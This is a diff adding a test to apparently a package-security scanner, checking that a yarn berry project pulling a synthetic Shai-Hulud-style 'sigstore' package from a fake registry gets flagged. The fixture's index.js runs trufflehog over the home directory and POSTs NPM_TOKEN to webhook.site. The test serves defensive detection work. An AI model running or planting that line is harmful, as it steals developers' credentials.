@@ -736,6 +736,29 @@ test('a tarball the reader refuses: a warning, an error when the package runs in
   }
 })
 
+test('yarn berry: tarballs are read from the registry (its resolution is not a URL), and scanned (synthetic)', async () => {
+  // SYNTHETIC: a berry lockfile locking the Shai-Hulud-style sigstore@1.0.0 the registry serves.
+  const evil = makeTgz({
+    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' }),
+    'index.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
+  })
+  const bad = await startRegistry({ overrides: { sigstore: (doc) => { doc.versions['1.0.0'].dist.integrity = sri(evil) } }, tarballOverrides: { 'sigstore@1.0.0': evil } })
+  try {
+    const dir = tmpdir()
+    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'berry-app', version: '1.0.0', dependencies: { sigstore: '1.0.0' } }))
+    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${bad.url}\n`)
+    fs.writeFileSync(path.join(dir, 'yarn.lock'), [
+      '__metadata:', '  version: 8', '  cacheKey: 10c0', '',
+      '"berry-app@workspace:.":', '  version: 0.0.0-use.local', '  resolution: "berry-app@workspace:."',
+      '  dependencies:', '    sigstore: "npm:1.0.0"', '  languageName: unknown', '  linkType: soft', '',
+      '"sigstore@npm:1.0.0":', '  version: 1.0.0', '  resolution: "sigstore@npm:1.0.0"',
+      '  checksum: 10c0/' + '0'.repeat(128), '  languageName: node', '  linkType: hard', ''
+    ].join('\n'))
+    const r = await guard({ cwd: dir, cache: false })
+    assert.ok(r.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore' && f.level === 'error'), rules(r).join('\n') + '\n' + r.skipped.join('\n'))
+  } finally { await bad.close() }
+})
+
 test('guard <dir>: the policy file and .npmrc come from <dir>, not the current directory', async () => {
   const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
   withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['from-git'] } } })
